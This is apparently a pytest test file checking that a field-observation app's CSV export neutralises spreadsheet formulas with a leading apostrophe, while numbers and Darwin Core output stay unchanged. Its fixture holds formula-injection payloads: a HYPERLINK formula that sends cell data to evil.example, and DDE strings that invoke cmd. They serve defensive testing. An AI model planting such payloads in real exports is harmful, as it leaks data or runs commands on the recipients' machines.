"""CSV exports neutralise spreadsheet formulas in text cells; numbers stay numbers; Darwin Core stays verbatim."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from fieldapp.transfer.exporters import spreadsheet_safe
from tests.factories import feature

# Input field -> (value, CSV column).
FORMULAS = {
    "subject_text": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "subject_text"),
    "notes": ("+1+cmd|' /C calc'!A0", "notes"),
    "method": ("@SUM(1+1)*cmd|' /C calc'!A0", "method"),
    "source_ref": ("-2+3", "source_ref"),
}


@pytest.fixture
def formulas(client, make, steward, dataset):
    body = feature(
        dataset.slug,
        geometry={"type": "Point", "coordinates": [-2.1, 49.2]},
        count=3,
        **{k: v for k, (v, _) in FORMULAS.items()},
    )
    response = client.post("/api/v1/observations", json=body, headers=steward.headers)
    assert response.status_code == 201, response.get_json()
    return dataset


def _export(client, dataset, fmt: str, headers) -> bytes:
    response = client.get(f"/api/v1/datasets/{dataset.slug}/export?format={fmt}", headers=headers)
    assert response.status_code == 200
    return response.data


def test_csv_text_cells_that_start_a_formula_get_a_leading_apostrophe(client, steward, formulas):
    (row,) = list(csv.DictReader(io.StringIO(_export(client, formulas, "csv", steward.headers).decode())))
    for value, column in FORMULAS.values():
        assert row[column] == "'" + value, column
    # Coordinates and counts are numbers, not text: a negative longitude stays a number.
    assert row["lon"] == "-2.1000000" and row["lat"] == "49.2000000"
    assert row["count"] == "3"
    assert row["wkt"].startswith("POINT(-2.1 ")


def test_darwin_core_keeps_the_values_verbatim(client, steward, formulas):
    archive = zipfile.ZipFile(io.BytesIO(_export(client, formulas, "dwca", steward.headers)))
    occurrences = archive.read("occurrence.txt").decode()
    subject, method = FORMULAS["subject_text"][0], FORMULAS["method"][0]
    assert subject in occurrences and method in occurrences
    assert "'" + subject not in occurrences and "'" + method not in occurrences


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("\rreturn", "'\rreturn"),
        ("\ttab", "'\ttab"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-2.1, -2.1),
        (Decimal("-2.1542000"), Decimal("-2.1542000")),
        (None, ""),
    ],
)
def test_the_rule_applies_to_text_only(value, written):
    assert spreadsheet_safe(value) == written
